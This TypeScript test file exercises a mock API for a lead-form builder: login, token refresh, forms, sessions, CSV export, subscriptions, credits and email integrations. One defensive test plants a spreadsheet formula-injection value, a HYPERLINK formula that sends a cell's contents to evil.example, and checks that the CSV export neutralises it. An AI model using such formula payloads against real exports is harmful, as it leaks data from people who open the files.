import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { db, DEMO_PASSWORD, LTD_DEMO_CODE, LTD_USED_CODE, resetDb, seedForms, seedTariffs, seedTokens, seedUsers } from '../db';
import { createMockServer } from '../node';
import { TEXT_LIMITS } from '../../src/domain/limits';
import { call } from '../testing';

const server = createMockServer();
beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
afterAll(() => server.close());
beforeEach(() => {
  resetDb();
});
afterEach(() => server.resetHandlers());

const demo = seedUsers.demoOwner;

describe('auth', () => {
  it('needs a live bearer token: none, unknown and revoked give 401 token_not_valid', async () => {
    for (const token of [null, 'nope']) {
      const { status, body } = await call('GET', '/auth/user/', { token });
      expect(status).toBe(401);
      expect(body).toMatchObject({ code: 'token_not_valid' });
    }
    await call('POST', '/auth/token/refresh/', { token: null, body: { refresh: seedTokens.demoOwner.refresh_token } });
    expect((await call('GET', '/auth/user/')).status).toBe(401);
  });

  it('logs in with the seeded password and refuses a wrong one', async () => {
    const ok = await call('POST', '/auth/login/', { token: null, body: { email: demo.email, password: DEMO_PASSWORD } });
    expect(ok.status).toBe(200);
    expect(ok.body).toMatchObject({ access_token: expect.any(String), refresh_token: expect.any(String) });
    const bad = await call('POST', '/auth/login/', { token: null, body: { email: demo.email, password: 'wrong' } });
    expect(bad).toEqual({ status: 400, body: { detail: 'Incorrect Credentials' } });
  });

  it('registers, refusing a taken or invalid e-mail with field errors in detail', async () => {
    const taken = await call('POST', '/auth/register/', { token: null, body: { email: demo.email, password: 'x1234567' } });
    expect(taken).toEqual({ status: 400, body: { detail: { email: ['user with this email address already exists.'] } } });
    const invalid = await call('POST', '/auth/register/', { token: null, body: { email: 'not-an-email', password: 'x1234567' } });
    expect(invalid.body).toEqual({ detail: { email: ['Enter a valid email address.'] } });
    const created = await call('POST', '/auth/register/', { token: null, body: { email: 'new@example.com', password: 'x1234567' } });
    expect(created.status).toBe(201);
    const token = (created.body as { access_token: string }).access_token;
    expect((await call('GET', '/auth/user/', { token })).body).toMatchObject({ email: 'new@example.com', is_email_verified: false });
  });

  it('rotates the refresh token: the old one cannot be used again, the new pair works', async () => {
    const first = await call('POST', '/auth/token/refresh/', { token: null, body: { refresh: seedTokens.demoOwner.refresh_token } });
    expect(first.status).toBe(200);
    const { access, refresh } = first.body as { access: string; refresh: string };
    expect((await call('GET', '/auth/user/', { token: access })).status).toBe(200);
    const again = await call('POST', '/auth/token/refresh/', { token: null, body: { refresh: seedTokens.demoOwner.refresh_token } });
    expect(again).toMatchObject({ status: 401, body: { code: 'token_not_valid' } });
    expect((await call('POST', '/auth/token/refresh/', { token: null, body: { refresh } })).status).toBe(200);
  });

  it('logout revokes the refresh token', async () => {
    expect((await call('POST', '/auth/logout/', { token: null, body: { refresh: seedTokens.demoOwner.refresh_token } })).status).toBe(204);
    const refresh = await call('POST', '/auth/token/refresh/', { token: null, body: { refresh: seedTokens.demoOwner.refresh_token } });
    expect(refresh.status).toBe(401);
  });

  it('change password: a wrong old one is incorrect_old_password; a user without one just sets it', async () => {
    const wrong = await call('POST', '/auth/change-password/', { body: { old_password: 'nope', new_password: 'n3w-pass' } });
    expect(wrong).toMatchObject({ status: 400, body: { code: 'incorrect_old_password' } });
    expect((await call('POST', '/auth/change-password/', { body: { old_password: DEMO_PASSWORD, new_password: 'n3w-pass' } })).status).toBe(200);
    const login = await call('POST', '/auth/login/', { token: null, body: { email: demo.email, password: 'n3w-pass' } });
    expect(login.status).toBe(200);

    const google = await call('POST', '/auth/login/google/', { token: null, body: { code: 'any' } });
    const token = (google.body as { access_token: string }).access_token;
    expect((await call('GET', '/auth/user/', { token })).body).toMatchObject({ has_password: false });
    expect((await call('POST', '/auth/change-password/', { token, body: { new_password: 'first-pass' } })).status).toBe(200);
    expect((await call('GET', '/auth/user/', { token })).body).toMatchObject({ has_password: true });
  });

  it('allows one verification e-mail per minute', async () => {
    expect((await call('POST', '/auth/verify-email/')).status).toBe(200);
    expect((await call('POST', '/auth/verify-email/')).status).toBe(429);
  });

  it('deleting the account answers 204 and removes everything the owner had', async () => {
    expect((await call('DELETE', '/auth/user')).status).toBe(204);
    expect(db.forms.where((f) => f._ownerId === demo.id)).toHaveLength(0);
    expect(db.chats.where((c) => c._ownerId === demo.id)).toHaveLength(0);
    expect((await call('GET', '/auth/user/')).status).toBe(401);
  });
});

describe('forms', () => {
  it('pages the list with a count; page_size=0 answers only the count', async () => {
    const first = await call('GET', '/lead_forms/?page=1&page_size=5');
    expect(first.body).toMatchObject({ count: 7, previous: null, next: expect.stringContaining('page=2') });
    expect((first.body as { results: unknown[] }).results).toHaveLength(5);
    const second = await call('GET', '/lead_forms/?page=2&page_size=5');
    expect((second.body as { results: unknown[] }).results).toHaveLength(2);
    expect((await call('GET', '/lead_forms/?page_size=0')).body).toEqual({ count: 7 });
  });

  it("sends old layouts as stored, hides other owners' forms, and refuses a duplicate name", async () => {
    expect((await call('GET', `/lead_forms/${seedForms.legacyV1}`)).body).toMatchObject({ fields: { steps: expect.any(Array) } });
    expect((await call('GET', `/lead_forms/${seedForms.proOwners}`)).status).toBe(404);
    const duplicate = await call('POST', '/lead_forms/', { body: { name: 'Recipe ideas', fields: { version: 3 } } });
    expect(duplicate).toEqual({ status: 400, body: { detail: { name: ['lead form with this name already exists.'] } } });
    const created = await call('POST', '/lead_forms/', { body: { name: 'Brand new', fields: { version: 3 } } });
    expect(created).toMatchObject({ status: 201, body: { name: 'Brand new', views: 0 } });
  });

  it('saving an old-layout form stores it migrated', async () => {
    const put = await call('PUT', `/lead_forms/${seedForms.legacyV2}`, { body: { name: 'Blog outline (version 2)', fields: { version: 3, aiPrompt: 'x' } } });
    expect(put.status).toBe(200);
    expect((await call('GET', `/lead_forms/${seedForms.legacyV2}`)).body).toMatchObject({ fields: { version: 3, aiPrompt: 'x' } });
  });

  it('deletes answer 204 and take the leads with them', async () => {
    expect((await call('DELETE', `/lead_forms/${seedForms.published}`)).status).toBe(204);
    expect(db.sessions.where((s) => s._formId === seedForms.published)).toHaveLength(0);
    expect((await call('DELETE', `/lead_forms/${seedForms.published}`)).status).toBe(404);
  });

  it('refuses a form whose texts are over their limits (src/domain/limits.ts), keeping the stored form', async () => {
    const stored = (await call('GET', `/lead_forms/${seedForms.published}`)).body as { name: string; fields: { aiFields: { title?: string }[] } };
    const longName = await call('PUT', `/lead_forms/${seedForms.published}`, { body: { ...stored, name: 'n'.repeat(TEXT_LIMITS.formName + 1) } });
    expect(longName).toMatchObject({ status: 400, body: { detail: { name: [expect.any(String)] } } });
    const aiFields = stored.fields.aiFields.map((f, n) => (n === 1 ? { ...f, title: 't'.repeat(TEXT_LIMITS.fieldTitle + 1) } : f));
    const longTitle = await call('PUT', `/lead_forms/${seedForms.published}`, { body: { ...stored, fields: { ...stored.fields, aiFields } } });
    expect(longTitle).toMatchObject({ status: 400, body: { detail: { 'fields.aiFields.1.title': [expect.any(String)] } } });
    expect(db.forms.get(seedForms.published)?.name).toBe(stored.name);
    expect((await call('PUT', `/lead_forms/${seedForms.published}`, { body: { ...stored, name: 'n'.repeat(TEXT_LIMITS.formName) } })).status).toBe(200);
  });

  it('exports the leads as CSV', async () => {
    const { status, body } = await call('GET', `/lead_forms/${seedForms.published}/lead/csv/`);
    expect(status).toBe(200);
    expect(String(body).split('\n')[0]).toMatch(/^Name,E-mail,Phone,Created at,/);
    expect(String(body).trim().split('\n')).toHaveLength(9);
  });

  it('exports a visitor\'s formula-like answer as text, not as a formula', async () => {
    const lead = db.sessions.where((s) => s._formId === seedForms.published && s.lead !== null)[0]!;
    db.sessions.update(lead.id, { lead: { ...lead.lead!, name: '=HYPERLINK("https://evil.example/?"&B2,"open")', phone: '+1 555 0100' } });
    const { body } = await call('GET', `/lead_forms/${seedForms.published}/lead/csv/`);
    const text = String(body);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""open"")"`);
    expect(text).toContain(`'+1 555 0100`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});

describe('sessions', () => {
  const base = `/lead_forms/${seedForms.published}/session/`;

  it('filters by has_lead and pages', async () => {
    expect((await call('GET', `${base}?has_lead=true&page_size=0`)).body).toEqual({ count: 8 });
    expect((await call('GET', `${base}?has_lead=false&page_size=0`)).body).toEqual({ count: 4 });
    const page = await call('GET', `${base}?page=1&page_size=10`);
    expect(page.body).toMatchObject({ count: 12, next: expect.any(String) });
  });

  it('deletes one with 204 and many with 200', async () => {
    expect((await call('DELETE', `${base}1`)).status).toBe(204);
    const bulk = await call('DELETE', base, { body: { ids: [2, 3] } });
    expect(bulk).toEqual({ status: 200, body: { deleted: 2 } });
    expect((await call('GET', `${base}?page_size=0`)).body).toEqual({ count: 9 });
  });

  it('patches a lead and reads a filling', async () => {
    const patched = await call('PATCH', `${base}1/lead/1`, { body: { name: 'Ada King' } });
    expect(patched).toMatchObject({ status: 200, body: { id: 1, name: 'Ada King', email: 'ada@example.com' } });
    expect((await call('GET', `${base}1/filling/`)).body).toMatchObject({ values: { '#Field2': 'Handmade candles' } });
  });
});

describe('subscription and credits', () => {
  it('answers 404 for my subscription on the free plan, the record on a paid one', async () => {
    expect((await call('GET', '/subscription/my/')).status).toBe(404);
    const pro = await call('GET', '/subscription/my/', { token: seedTokens.proOwner.access_token });
    expect(pro).toMatchObject({ status: 200, body: { status: 'active', tariff: { name: 'Pro plan' } } });
  });

  it('checkout answers 201 with the demo provider page; paying there makes the plan current', async () => {
    const body = { tariff_id: seedTariffs.creator, success_url: 'http://app.test/app/checkout/success', cancel_url: 'http://app.test/app/checkout/failure' };
    const checkout = await call('POST', '/subscription/create-checkout-session/stripe/', { body });
    expect(checkout).toEqual({ status: 201, body: { redirect_url: 'http://app.test/app/checkout/demo/1' } });
    // Nothing is bought until the owner pays on the provider's page.
    expect((await call('GET', '/subscription/my/')).status).toBe(404);
    expect((await call('GET', '/subscription/demo-checkout/1/')).body).toMatchObject({ status: 'open', tariff: { name: 'Creator plan' } });
    const paid = await call('POST', '/subscription/demo-checkout/1/', { body: { outcome: 'paid' } });
    expect(paid).toEqual({ status: 200, body: { redirect_url: body.success_url } });
    expect((await call('GET', '/auth/user/current_credits/')).body).toEqual({ used_credits: 37, credits_per_month: 1000 });
    expect((await call('GET', '/subscription/my/')).body).toMatchObject({ status: 'active', tariff: { id: seedTariffs.creator } });
    // Ended sessions stay ended; a paying customer changes plans in the portal, not with a second checkout.
    expect((await call('POST', '/subscription/demo-checkout/1/', { body: { outcome: 'declined' } })).status).toBe(400);
    const second = await call('POST', '/subscription/create-checkout-session/stripe/', { body: { ...body, tariff_id: seedTariffs.pro } });
    expect(second).toMatchObject({ status: 400, body: { code: 'already_subscribed' } });
    expect((await call('POST', '/subscription/billing-portal/', { body: { return_url: 'http://app.test/app/prices' } })).body).toEqual({
      url: 'http://app.test/app/prices',
    });
  });

  it('a declined demo payment changes nothing and sends the owner to the cancel URL', async () => {
    const body = { tariff_id: seedTariffs.pro, success_url: 'http://app.test/app/checkout/success', cancel_url: 'http://app.test/app/checkout/failure' };
    await call('POST', '/subscription/create-checkout-session/stripe/', { body });
    const declined = await call('POST', '/subscription/demo-checkout/1/', { body: { outcome: 'declined' } });
    expect(declined.body).toEqual({ redirect_url: body.cancel_url });
    expect((await call('GET', '/subscription/my/')).status).toBe(404);
    expect((await call('POST', '/subscription/billing-portal/', { body: { return_url: 'x' } })).body).toMatchObject({ code: 'no_billing_customer' });
  });

  it('spends ai_create_lead_form credits on generating a tool, not on ideas', async () => {
    const ideas = await call('POST', '/llm_chain/simple/chat/builder', { body: { inputs: { post: 'A bakery' } } });
    expect((JSON.parse(JSON.stringify(ideas.body)) as { ideas: unknown[] }).ideas).toHaveLength(5);
    expect((await call('GET', '/subscription/usage/')).body).toEqual({ used_credits: 37 });
    const form = await call('POST', '/llm_chain/simple/chat/builder', { body: { inputs: { idea: 'Cake calculator' } } });
    expect(form).toMatchObject({ status: 200, body: { name: 'Cake calculator' } });
    expect((await call('GET', '/subscription/usage/')).body).toEqual({ used_credits: 42 });
  });

  it('refuses an AI action when the credits are used up', async () => {
    db.usage.update(demo.id, { used_credits: 99 });
    const refused = await call('POST', '/llm_chain/simple/chat/builder', { body: { inputs: { idea: 'x' } } });
    expect(refused).toMatchObject({ status: 402, body: { code: 'not_enough_credits' } });
  });

  it('redeems a lifetime-deal code once', async () => {
    const ok = await call('POST', '/subscription/ltd/redeem/', { body: { code: LTD_DEMO_CODE } });
    expect(ok).toMatchObject({ status: 200, body: { tariff: { name: 'Lifetime plan' } } });
    expect((await call('GET', '/auth/user/')).body).toMatchObject({ ltd_tariff: 'Lifetime plan', tariff: { name: 'Lifetime plan' } });
    const used = await call('POST', '/subscription/ltd/redeem/', { body: { code: LTD_USED_CODE } });
    expect(used).toMatchObject({ status: 400, body: { code: 'invalid_code' } });
  });
});

describe('integrations', () => {
  const query = `?receiver=email&tracking_entity=lead&tracking_entity_parent=lead_form&tracking_entity_parent_id=${seedForms.published}`;
  const subscription = (email: string) => ({
    receiver: 'email',
    receiver_email: email,
    tracking_entity: 'lead',
    tracking_entity_parent: 'lead_form',
    tracking_entity_parent_id: seedForms.published,
    tracking_action: 'post',
    is_active: true,
  });

  it('lists, adds (201), refuses duplicates and bad addresses with a message, deletes (204)', async () => {
    expect((await call('GET', `/events/subscription/${query}`)).body).toHaveLength(2);
    expect((await call('POST', '/events/subscription/', { body: subscription('new@example.com') })).status).toBe(201);
    const duplicate = await call('POST', '/events/subscription/', { body: subscription('sales@example.com') });
    expect(duplicate).toMatchObject({ status: 400, body: { message: expect.any(String) } });
    const invalid = await call('POST', '/events/subscription/', { body: subscription('nope') });
    expect(invalid).toMatchObject({ status: 400, body: { detail: { receiver_email: ['Enter a valid email address.'] } } });
    expect((await call('DELETE', '/events/subscription/1')).status).toBe(204);
    expect((await call('GET', `/events/subscription/${query}`)).body).toHaveLength(2);
  });
});
